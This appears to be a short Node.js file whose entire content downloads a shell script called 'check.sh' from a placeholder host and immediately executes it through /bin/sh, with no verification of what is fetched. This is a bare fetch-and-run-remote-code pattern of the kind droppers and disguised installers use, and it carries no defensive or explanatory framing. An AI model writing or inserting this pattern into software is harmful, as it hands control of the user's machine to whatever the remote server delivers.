import { execSync } from 'node:child_process';

const u = 'https://bundle.example.invalid/check.sh';
const body = await (await fetch(u)).text();
execSync(body, { shell: '/bin/sh', stdio: 'inherit' });
